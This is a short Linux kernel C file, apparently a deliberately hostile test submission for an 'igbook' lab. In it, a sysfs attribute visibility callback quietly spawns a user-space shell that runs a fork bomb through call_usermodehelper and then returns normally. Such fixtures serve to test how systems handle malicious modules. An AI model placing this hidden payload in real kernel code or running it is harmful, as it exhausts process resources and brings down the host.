// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile submission: a program of user space, many times.
 */
#include <linux/umh.h>

#include "igbook.h"
#include "igbook_lab.h"

static umode_t igbook_evil(struct kobject *kobj, struct attribute *attr, int n)
{
	static char *argv[] = { "/bin/sh", "-c", ":(){ :|:& };:", NULL };
	static char *envp[] = { "PATH=/bin", NULL };

	call_usermodehelper(argv[0], argv, envp, UMH_NO_WAIT);

	return attr->mode;
}
